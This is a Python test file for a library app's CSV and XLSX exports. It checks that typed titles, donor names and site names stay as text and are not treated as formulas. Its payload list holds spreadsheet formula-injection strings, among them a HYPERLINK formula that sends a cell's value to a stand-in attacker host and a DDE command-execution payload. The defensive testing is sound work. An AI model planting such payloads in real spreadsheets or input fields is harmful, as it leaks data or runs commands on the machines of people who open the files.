"""Texts people typed (a title, a donor, a site's name) stay texts in CSV and XLSX exports, never formulas."""

import csv
import io
import zipfile

import openpyxl
import pytest

from backend.reports.exports import csv_export, xlsx_export
from backend.reports.indicators import INDICATORS
from backend.stock.exports import COLUMNS, stock_export_csv, stock_export_xlsx
from backend.stock.holders import Holder
from tests.backend.factories import CopyFactory, RecordFactory

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return "".join(book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/"))


@pytest.mark.django_db
def test_stock_exports_keep_formula_like_titles_and_donors_as_text(depot):
    for n, payload in enumerate(PAYLOADS):
        CopyFactory(library=depot, barcode=f"F{n}", record=RecordFactory(title=payload), donor=payload)

    rows = list(csv.reader(io.StringIO(stock_export_csv(holder=Holder.library(depot)))))[1:]
    for row in rows:
        for column in ("title", "donor"):
            assert row[COLUMNS.index(column)] == "'" + PAYLOADS[int(row[0][1:])], row

    data = stock_export_xlsx(holder=Holder.library(depot))
    assert "<f>" not in _sheet_xml(data)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["stock"]
    titles = [row[COLUMNS.index("title")] for row in sheet.iter_rows(min_row=2)]
    assert {(cell.value, cell.data_type) for cell in titles} == {(payload, "s") for payload in PAYLOADS}


def test_report_exports_keep_a_formula_like_site_name_as_text():
    rows = [{"period": "2026", "group": payload, **{i.key: 1 for i in INDICATORS}} for payload in PAYLOADS]

    text = csv_export(rows=rows, grouping="site")
    data = xlsx_export(tables={"site": rows})

    groups = [row[1] for row in list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1:]]
    assert groups == ["'" + payload for payload in PAYLOADS]
    assert "<f>" not in _sheet_xml(data)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert [(c.value, c.data_type) for c in sheet["B"][1:]] == [(payload, "s") for payload in PAYLOADS]
